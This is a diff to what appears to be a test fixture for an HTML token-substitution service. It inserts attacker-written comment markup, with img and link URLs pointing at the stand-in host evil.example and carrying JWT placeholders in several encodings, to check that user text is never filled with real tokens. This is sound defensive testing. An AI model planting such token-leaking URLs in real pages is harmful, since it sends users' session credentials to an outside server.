@@ -147,12 +147,24 @@ def _slot(resource: str | None, spelling: str = "raw", place: Place = unsigned) 
     return Slot(resource, text[spelling].encode())
 
 
+#: What other users wrote into the page (a comment, an avatar URL, a reflected link): placeholder-like
+#: text in every spelling, aimed at a server of the attacker's. It must arrive exactly as written.
+ATTACKER_HOST = b"evil.example"
+ATTACKER_TEXT = (
+    b'<p class="comment">nice! &lt;JWT_TOKEN:sales&gt; <img src="https://evil.example/a?t=<JWT_TOKEN>"> '
+    b'<a href="https://evil.example/b?t=%3CJWT_TOKEN%3Atraffic%3E">more</a> '
+    b'<span data-x="&#60;JWT_TOKEN:users&#62;"></span></p>\n'
+)
+
+
 def page_parts(tenant_id: str, rid: str, place: Place = unsigned) -> list[Part]:
     """``/page``: several named placeholders, ``sales`` twice, and padding that differs per tenant."""
     embed = b'<iframe src="https://charts.example.com/embed?token='
     return [
         f"<!doctype html><html><head><title>{tenant_id}</title></head><body>\n".encode(),
-        f'<p id="tenant">{tenant_id}</p><p id="rid">{rid}</p>\n'.encode() + embed,
+        f'<p id="tenant">{tenant_id}</p><p id="rid">{rid}</p>\n'.encode(),
+        ATTACKER_TEXT,
+        embed,
         _slot("sales", place=place),
         b'"></iframe>\n' + embed,
         _slot("traffic", "html", place),
@@ -175,6 +187,8 @@ def stream_parts(tenant_id: str, rid: str, place: Place = unsigned) -> list[Part
         parts.append(f'<li data-tenant="{tenant_id}" data-rid="{rid}">{index}: '.encode())
         parts.append(_slot(names[index % len(names)], ("raw", "html", "percent")[index % 3], place))
         parts.append(b"</li>\n")
+        if index % 10 == 5:
+            parts.append(ATTACKER_TEXT)
     parts.append(b"</ul></body></html>\n")
     return parts
 
